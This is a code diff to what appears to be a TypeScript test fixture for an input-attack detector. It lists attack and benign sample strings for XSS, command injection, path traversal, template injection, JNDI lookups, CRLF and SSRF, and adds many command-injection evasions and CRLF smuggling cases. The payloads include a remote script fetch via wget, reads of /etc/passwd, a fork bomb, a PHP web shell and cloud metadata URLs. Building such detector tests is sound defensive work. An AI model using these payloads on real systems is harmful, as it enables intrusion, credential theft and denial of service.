@@ -13,12 +13,32 @@ const CASES: Record<string, { attack: string[]; benign: string[]; name?: string 
     attack: ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)', '%3Csvg%2Fonload%3Dalert(1)%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '<iframe src=//evil>'],
     benign: ['a < b and c > d', 'fish & chips', 'I <3 it', 'onboarding = done'],
   },
-  cmd: { attack: ['; cat /etc/passwd', 'x | id', '$(whoami)', '`uname -a`', '&& wget http://x/s.sh', 'a;/bin/sh -c id', 'cmd.exe /c dir'], benign: ["Don't ring the bell; the baby sleeps", 'Deliver after 5pm & call first', 'tea (green)', 'ls-400 lamp'] },
+  cmd: {
+    attack: [
+      '; cat /etc/passwd', 'x | id', '$(whoami)', '`uname -a`', '&& wget http://x/s.sh', 'a;/bin/sh -c id', 'cmd.exe /c dir',
+      // command lines without a separator, wrapped commands, quoting and empty-expansion evasions
+      'bash -c "echo test"', 'time sh -c whoami', 'nohup ifconfig', 'flock -u / whoami', 'ansible-vault decrypt secret', 'cscli alerts list',
+      "'wh'oami", 'c$@at /et$@c/pas$@swd', 'pi$()ng 127.0.0.1', 'cu$v\\r\\l google.com', 'a=/etc&&b=/passwd&&c=cat&&$c $a$b',
+      // globbing, brace expansion, function definitions, aliases
+      'cat /etc/pa[s]swd', '/???/?s', 'cat+/et*/*wd', '{,ip,a}', '{l,-lh}s', ':(){ :|:& };:', '() { :; }; echo', 'alias a=b', 'alias ls-al=\'ls -al\'',
+      // Windows batch conditionals
+      'IF EXIST C:\\pagefile.sys CMD', 'if /i "%var%"=="hello" (ECHO found)', 'IF %ERRORLEVEL% NEQ 0 echo test', 'Invoke-WebRequest http://example.com/a.ps1',
+      'code=cat /etc/x', '<?xml version="1.0"?><root><a probe=";cat /etc/passwd"></a></root>',
+    ],
+    benign: [
+      "Don't ring the bell; the baby sleeps", 'Deliver after 5pm & call first', 'tea (green)', 'ls-400 lamp', 'cat toys', 'date', 'time warner', 'a hero; more than',
+      'find my order', 'set the table for 4', 'if you exist, reply', 'ifq a==b foo', 'if not defined by the user', 'your alias is not = to your name', 'page[1]', 'data[index]',
+      'hello [text in brackets]', 'a[b/1234*c]', '/api/*/items', 'format=lastlog', 'language=python',
+    ],
+  },
   traversal: { attack: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%252e%252e%252fetc%252fpasswd', '..\\..\\windows\\win.ini', '....//....//etc/passwd', '/static/..;/admin', 'file.txt%00.jpg'], benign: ['a.b.c', '/api/v1/files/report.pdf', '...and more', 'version 1..2'] },
   ssti: { attack: ['{{7*7}}', '${7*7}', "{{config.__class__.__init__.__globals__['os']}}", '<%= 7*7 %>', '{% import os %}', '${T(java.lang.Runtime).getRuntime().exec("id")}', 'class.module.classLoader.resources'], benign: ['{"a":1}', 'costs ${price}', '{{name}}'] },
   jndi: { attack: ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:${lower:l}dap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D'], benign: ['${HOME}', 'jndi is a java api'] },
   code: { attack: ['<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index.php', '{"__proto__": {"admin": true}}', "require('child_process').exec('id')", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}'], benign: ['prototype design', 'system requirements', 'evaluate this'] },
-  crlf: { attack: ['foo%0d%0aSet-Cookie:%20a=b', 'x\r\nLocation: http://evil'], benign: ['line one\nline two'] },
+  crlf: {
+    attack: ['foo%0d%0aSet-Cookie:%20a=b', 'x\r\nLocation: http://evil', 'aaa%0aGET / HTTP/1.1', '%0d%0aMAIL FROM:<a@b.com>', '%0d%0aRCPT TO:<postmaster>', '\r\na001 EXAMINE INBOX', '\r\nRETR 1', 'x%0d%0aRefresh: 0;url=http://evil'],
+    benign: ['line one\nline two', 'aaa\r\nGet foo bar', 'Top 10 songs\nlist 3 of them', 'get it', '--boundary\r\nContent-Disposition: form-data; name="file"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--boundary--'],
+  },
   ssrf: {
     attack: ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'file:///etc/passwd', 'gopher://localhost:6379/_INFO', 'http://[::1]/', 'http://metadata.google.internal/computeMetadata/v1/', 'http%3A%2F%2F10.0.0.5%2F'],
     benign: ['https://hooks.partner.example/notify', 'https://8.8.8.8/', 'mailto:a@b.example', 'plain text', '3'],
